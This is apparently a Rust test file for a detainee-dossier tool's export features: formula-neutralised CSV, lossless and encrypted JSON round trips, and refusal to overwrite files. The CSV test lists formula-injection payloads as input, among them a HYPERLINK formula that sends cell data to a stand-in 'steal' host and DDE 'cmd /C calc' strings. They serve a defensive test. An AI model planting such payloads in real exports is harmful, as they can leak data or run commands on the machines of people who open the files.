//! Exports: CSV with formulas neutralised, the lossless JSON round trip, refusal to overwrite.

use super::*;

const CANARY: &str = "PRIVATE-CANARY-7d1f";

#[test]
fn csv_export_neutralises_formulas_and_round_trips() {
    let dir = tempfile::tempdir().unwrap();
    let mut d = new_dossier(dir.path(), "f.dossier");
    let nasty = [
        "=HYPERLINK(\"http://example.invalid/steal?\"&A1,\"Click\")",
        "+33 6 00 00 00 00",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
    ];
    for (i, n) in nasty.iter().enumerate() {
        let mut p = Detainee::new(*n, Category::Civilian);
        p.notes = Some(format!("={i}+1"));
        p.birth_place = Some("Normal place".into());
        d.insert(p).unwrap();
    }
    for semicolon in [false, true] {
        let path = dir.path().join(format!("out-{semicolon}.csv"));
        exchange::export_csv(&d, dossier::model::RecordKind::Detainee, &path, semicolon, false).unwrap();
        let bytes = std::fs::read(&path).unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM for Excel");
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert!(text.contains("\r\n"));
        let mut rdr =
            csv::ReaderBuilder::new().delimiter(if semicolon { b';' } else { b',' }).from_reader(text.as_bytes());
        let mut rows = 0;
        for rec in rdr.records() {
            let rec = rec.unwrap();
            assert!(uuid::Uuid::parse_str(&rec[0]).is_ok(), "every row carries its id");
            for c in rec.iter() {
                assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell could run as a formula: {c:?}");
            }
            rows += 1;
        }
        assert_eq!(rows, nasty.len());
        // Read back, the values are exactly what was stored: every row is unchanged.
        let r = exchange::import_spreadsheet(&mut d, &path, &opts()).unwrap();
        assert_eq!(r.summary.skip, nasty.len(), "{:?}", r.rows);
    }
    for c in ["=1", "+1", "-1", "@a", "\tx", "\rx"] {
        assert!(exchange::export::neutralise(c).starts_with('\''));
    }
    assert_eq!(exchange::export::neutralise("Aram"), "Aram");
    // And into a new dossier, the names come back as they were.
    let mut fresh = new_dossier(dir.path(), "g.dossier");
    let csv = dir.path().join("out-false.csv");
    let mut o = opts();
    o.mapping = vec![("id".into(), String::new())];
    exchange::import_spreadsheet(&mut fresh, &csv, &o).unwrap();
    let mut a = names_of(&fresh);
    let mut b: Vec<String> = nasty.iter().map(|s| s.to_string()).collect();
    a.sort();
    b.sort();
    assert_eq!(a, b);
}

#[test]
fn json_export_imports_back_losslessly() {
    let dir = tempfile::tempdir().unwrap();
    let mut a = sample(dir.path(), "a.dossier");
    let someone = a.list::<Detainee>().unwrap()[0].id;
    a.insert(Contact {
        detainee_id: someone,
        name: "Mère (fictive)".into(),
        relation: Some("mère".into()),
        phone: Some("+374 00 000 000".into()),
        email: None,
        address: None,
        languages: vec!["hy".into()],
        notes: None,
    })
    .unwrap();
    a.edit::<Detainee>(someone, &[("status".into(), "released".into())]).unwrap();
    let path = dir.path().join("full.json");
    let n = exchange::export_json(&a, &path, false, exchange::Seal::Plaintext).unwrap();
    assert!(n > 30, "{n}");
    let mut b = new_dossier(dir.path(), "b.dossier");
    let r = exchange::import_json(&mut b, &path, false, None).unwrap();
    assert!(r.applied);
    let (sa, sb) = (json::snapshot(&a).unwrap(), json::snapshot(&b).unwrap());
    assert_eq!(sa.detainees, sb.detainees);
    assert_eq!(sa.contacts, sb.contacts);
    assert_eq!(sa.media, sb.media, "photos and logos byte for byte");
    assert_eq!(sa.sponsors, sb.sponsors);
    assert_eq!(sa.sponsorships, sb.sponsorships);
    assert_eq!(sa.events, sb.events);
    assert_eq!(sa.sources, sb.sources);
    assert_eq!(sa.press_releases, sb.press_releases);
    assert_eq!(sa.profiles, sb.profiles);
    let strip = |h: &[dossier::store::Change]| {
        h.iter().map(|c| dossier::store::Change { seq: 0, ..c.clone() }).collect::<Vec<_>>()
    };
    assert_eq!(strip(&sb.history[..sa.history.len()]), strip(&sa.history), "the whole history comes along, in order");
    // Search and the generated columns work on the imported copy.
    assert_eq!(a.search("Արամ", 50).unwrap().len(), b.search("Արամ", 50).unwrap().len());
    assert_eq!(a.counts().unwrap().by_status, b.counts().unwrap().by_status);
    // Importing the same export again is refused whole: nothing doubles.
    let before = b.list::<Detainee>().unwrap().len();
    let e = exchange::import_json(&mut b, &path, false, None).unwrap_err();
    assert_eq!(e.code(), "id_taken");
    assert_eq!(b.list::<Detainee>().unwrap().len(), before);
    // A file from a newer schema is refused with a clear message.
    let mut v: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    v["schema_version"] = 99.into();
    let newer = dir.path().join("newer.json");
    write(&newer, v.to_string().as_bytes());
    let mut c = new_dossier(dir.path(), "c.dossier");
    let e = exchange::import_json(&mut c, &newer, false, None).unwrap_err();
    assert!(e.message(Lang::En).contains("schema version 99"), "{}", e.message(Lang::En));
}

#[test]
fn json_round_trip_through_the_command_line() {
    let env = Env::init();
    env.ok(&["demo"]);
    let out = env.path("all.json");
    let run = env.run(&["export", "json", "--plaintext", "-o", out.to_str().unwrap()]);
    assert!(run.status.success());
    assert!(String::from_utf8_lossy(&run.stderr).contains("NOT encrypted"), "the user is warned");
    let env2 = Env::init();
    env2.ok(&["import", out.to_str().unwrap()]);
    assert_eq!(env.json(&["detainee", "list", "--json"]), env2.json(&["detainee", "list", "--json"]));
    assert_eq!(env.json(&["sponsorship", "list", "--json"]), env2.json(&["sponsorship", "list", "--json"]));
}

#[test]
fn exports_refuse_to_overwrite_and_fail_clearly() {
    let env = Env::init();
    env.ok(&["demo"]);
    let out = env.path("list.csv");
    write(&out, b"precious");
    let err = env.fails(&["export", "csv", "-o", out.to_str().unwrap()], 1);
    assert!(err.contains("not overwritten"), "{err}");
    assert_eq!(std::fs::read(&out).unwrap(), b"precious");
    let msg = env.ok(&["export", "csv", "-o", out.to_str().unwrap(), "--force", "--kind", "sponsor", "--semicolon"]);
    assert!(msg.contains("Exported"), "{msg}");
    assert!(std::fs::read_to_string(&out).unwrap().contains("id;name;kind"));
    // Never over the dossier itself, even with --force.
    let before = std::fs::read(&env.db).unwrap();
    env.fails(&["export", "json", "-o", env.db.to_str().unwrap(), "--force"], 1);
    assert_eq!(std::fs::read(&env.db).unwrap(), before);
    // An unwritable place names the path; no temporary file is left behind.
    let bad = env.path("no/such/folder/out.xlsx");
    let err = env.fails(&["export", "xlsx", "-o", bad.to_str().unwrap()], 1);
    assert!(err.contains("out.xlsx"), "{err}");
    let leftovers: Vec<_> =
        files_in(env.dir.path()).into_iter().filter(|(p, _)| p.to_string_lossy().contains(".tmp-")).collect();
    assert!(leftovers.is_empty());
    let site = env.path("site");
    let msg = env.ok(&["export", "website", "-o", site.to_str().unwrap()]);
    assert!(msg.contains("Website feed written"), "{msg}");
    // Usage errors exit 2.
    env.fails(&["export", "pdf", "-o", "x"], 2);
    env.fails(&["import"], 2);
}

/// The full export holds the family contacts: by default it is sealed (age) under the dossier's passphrase, or
/// the one given for the export, private to its owner, and imports back only with that passphrase.
#[test]
fn json_export_is_sealed_by_default_and_imports_back_with_its_passphrase() {
    let env = Env::init();
    let id = env.id(&["detainee", "add", "--name", "Gor Fictivyan", "--category", "pow"]);
    env.ok(&["contact", "add", "--detainee", &id, "--name", CANARY, "--phone", "+33 6 00 00 00 00"]);
    let out = env.path("all.json.age");
    let run = env.run(&["export", "json", "-o", out.to_str().unwrap()]);
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    assert!(String::from_utf8_lossy(&run.stderr).contains("sealed"), "the user is told how it is protected");
    let bytes = std::fs::read(&out).unwrap();
    assert!(bytes.starts_with(b"age-encryption.org/v1\n"), "an age file");
    assert!(!contains(&bytes, CANARY.as_bytes()) && !contains(&bytes, b"Fictivyan"), "nothing readable");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600, "private to its owner");
    }
    let env2 = Env::init();
    env2.ok(&["import", out.to_str().unwrap()]);
    assert_eq!(env.json(&["detainee", "list", "--json"]), env2.json(&["detainee", "list", "--json"]));

    // Sealed under a passphrase of its own: the dossier's does not open it, and nothing is imported.
    let own = env.path("own.json.age");
    let run = env
        .cmd(&["export", "json", "-o", own.to_str().unwrap()])
        .env("DOSSIER_EXPORT_PASSPHRASE", "export only words")
        .output()
        .unwrap();
    assert!(run.status.success());
    let env3 = Env::init();
    let err = env3.fails(&["import", own.to_str().unwrap()], 1);
    assert!(err.contains("does not open the sealed export"), "{err}");
    assert!(env3.json(&["detainee", "list", "--json"]).as_array().unwrap().is_empty());
    let ok = env3
        .cmd(&["import", own.to_str().unwrap()])
        .env("DOSSIER_EXPORT_PASSPHRASE", "export only words")
        .output()
        .unwrap();
    assert!(ok.status.success(), "{}", String::from_utf8_lossy(&ok.stderr));
    assert_eq!(env3.json(&["detainee", "list", "--json"]).as_array().unwrap().len(), 1);

    // Readable JSON only when asked for, after the warning; never over an existing file without --force.
    let plain = env.path("plain.json");
    let run = env.run(&["export", "json", "--plaintext", "-o", plain.to_str().unwrap()]);
    assert!(String::from_utf8_lossy(&run.stderr).contains("NOT encrypted"));
    assert!(contains(&std::fs::read(&plain).unwrap(), CANARY.as_bytes()));
    let err = env.fails(&["export", "json", "-o", plain.to_str().unwrap()], 1);
    assert!(err.contains("already exists"), "{err}");
}
